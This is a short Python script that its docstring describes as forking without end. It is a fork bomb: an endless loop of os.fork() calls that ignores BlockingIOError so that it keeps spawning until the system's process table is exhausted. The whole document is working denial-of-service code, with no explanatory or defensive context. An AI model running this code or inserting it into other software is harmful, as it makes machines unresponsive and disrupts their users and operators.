"""Forks without end, in every process that it gets."""

import os

while True:
    try:
        os.fork()
    except BlockingIOError:
        pass
